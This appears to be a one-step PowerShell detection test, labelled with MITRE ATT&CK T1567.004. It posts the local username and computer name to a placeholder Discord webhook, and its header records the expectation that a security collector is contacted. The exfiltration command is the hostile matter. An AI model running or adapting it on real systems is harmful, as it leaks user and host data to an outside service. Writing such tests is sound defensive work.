# expect: collector-contacted | source: MITRE ATT&CK T1567.004
$u = 'https://discord.com/api/webhooks/0/look'
Invoke-RestMethod -Uri $u -Method Post -Body (@{ content = "$env:USERNAME on $env:COMPUTERNAME" } | ConvertTo-Json)
